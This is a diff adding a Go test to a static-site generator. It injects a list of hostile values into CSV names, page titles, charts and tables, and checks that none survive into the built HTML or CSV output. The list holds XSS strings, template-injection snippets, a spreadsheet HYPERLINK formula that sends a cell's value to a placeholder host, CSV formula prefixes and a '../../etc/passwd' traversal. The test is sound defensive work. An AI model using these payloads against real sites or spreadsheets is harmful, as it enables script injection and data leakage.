@@ -1,0 +1,102 @@
+package generator
+
+import (
+	"bytes"
+	"encoding/csv"
+	"path"
+	"strings"
+	"testing"
+	"testing/fstest"
+
+	"golang.org/x/net/html"
+)
+
+// hostile are values that try to leave the place they land in.
+var hostile = []string{
+	`<script>alert(1)</script>`,
+	`" onmouseover="alert(1)`,
+	`' onclick='alert(1)`,
+	`</title><img src=x onerror=alert(1)>`,
+	`]]></svg><script>alert(1)</script>`,
+	`{{ printf "%s" site.Title }}`,
+	`{{< fact "x.y" >}}`,
+	`[link](javascript:alert(1))`,
+	`=HYPERLINK("http://example.org/?x="&A1,"y")`,
+	`+1+1`, `-2+3`, `@SUM(1)`,
+	`../../etc/passwd`, `{b}{a}`, "\u202eright to left", `&lt;b&gt;`,
+}
+
+// TestNothingThatACSVHoldsCanRun puts hostile values into names, keys, titles of
+// pages, charts, tables and downloads, and looks for them in the finished site.
+func TestNothingThatACSVHoldsCanRun(t *testing.T) {
+	var table bytes.Buffer
+	w := csv.NewWriter(&table)
+	rows := [][]string{{"name", "n"}}
+	for _, value := range hostile {
+		rows = append(rows, []string{value, "1"})
+	}
+	if err := w.WriteAll(rows); err != nil {
+		t.Fatal(err)
+	}
+	const columns = "\nkey: name\ncolumns: {name: {label: \"<b>Name</b>\", unit: text}, n: {label: N, unit: count}}\n*/\nSELECT name, n, [_row] AS t_rows FROM t"
+	report := fstest.MapFS{
+		"hugo.toml":         {Data: []byte("title = \"<b>Hostile</b>\"\n[[menus.main]]\nname = \"<i>Home</i>\"\npageRef = \"/\"\n")},
+		"content/_index.md": {Data: []byte("---\ntitle: \"{{< fact `all.name[<script>alert(1)</script>]` >}}\"\n---\n{{< fact `all.name[<script>alert(1)</script>]` >}} {{< finding `flag.yes` >}}{{< fact `all.name[<script>alert(1)</script>]` >}}{{< /finding >}}\n\n{{< table \"all\" >}}\n\n{{< chart \"bars\" >}}\n")},
+		// the names become titles, and text in Markdown
+		"content/pages/_content.gotmpl": {Data: []byte(`{{ range $i, $l := site.Params.report.Lines "all" }}{{ $name := replace .name "{{<" "" }}{{ $.AddPage (dict "path" (printf "p%d" $i) "title" .name "content" (dict "mediaType" "text/markdown" "value" (printf "A %s B {{< finding ` + "`flag.yes`" + ` >}}%s{{< /finding >}}" (htmlEscape $name) (htmlEscape $name)))) }}{{ end }}`)},
+		"data/datapackage.json":         {Data: []byte(`{"title": "<u>x</u>", "resources": [{"name": "t", "path": "t.csv", "title": "<u>t</u>", "description": "<u>d</u>", "schema": {"fields": [{"name": "name", "title": "<u>n</u>", "type": "string"}, {"name": "n", "type": "integer"}]}}]}`)},
+		"data/t.csv":                    {Data: table.Bytes()},
+		"data/aggregates/all.sql":       {Data: []byte("/*\ntitle: \"<u>All</u>\"\nabout: \"<u>About</u>\"" + columns)},
+		"data/aggregates/flag.sql":      {Data: []byte("/*\ntitle: Flag\ncolumns: {yes: {label: Yes, unit: flag}}\n*/\nSELECT true AS yes, list(_row) AS t_rows FROM t")},
+		"data/charts/bars.yaml":         {Data: []byte("kind: bar\nof: all\nx: n\ny: name\ntitle: \"<u>Title</u>\"\nsubtitle: \"<u>Subtitle</u>\"\nnote: \"<u>Note</u>\"\n")},
+	}
+	// the adapter takes the shortcode out: what it hands on as Markdown is its own
+	result, err := Build(t.Context(), report, Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, p := range result.Problems {
+		t.Error(p)
+	}
+	for name, text := range result.Pages {
+		if path.Ext(name) == ".html" {
+			inspect(t, name, text)
+		}
+	}
+	for _, name := range []string{"data/t.csv", "numbers/all.csv"} {
+		all, err := csv.NewReader(bytes.NewReader(result.Pages[name])).ReadAll()
+		if err != nil || len(all) != len(hostile)+1 {
+			t.Fatal(name, err)
+		}
+		for _, row := range all[1:] {
+			if strings.ContainsRune("=+-@", rune(row[0][0])) {
+				t.Errorf("%s: a spreadsheet would run %q", name, row[0])
+			}
+		}
+	}
+}
+
+// inspect fails on elements and attributes that only a hostile value can have made.
+func inspect(t *testing.T, name string, text []byte) {
+	t.Helper()
+	z := html.NewTokenizer(bytes.NewReader(text))
+	for {
+		kind := z.Next()
+		if kind == html.ErrorToken {
+			return
+		}
+		if kind != html.StartTagToken && kind != html.SelfClosingTagToken {
+			continue
+		}
+		token := z.Token()
+		switch token.Data {
+		case "script", "img", "u", "b", "i":
+			t.Errorf("%s: an element <%s> came out of a value", name, token.Data)
+		}
+		for _, a := range token.Attr {
+			if strings.HasPrefix(a.Key, "on") || strings.HasPrefix(strings.TrimSpace(a.Val), "javascript:") {
+				t.Errorf("%s: <%s %s=%q>", name, token.Data, a.Key, a.Val)
+			}
+		}
+	}
+}
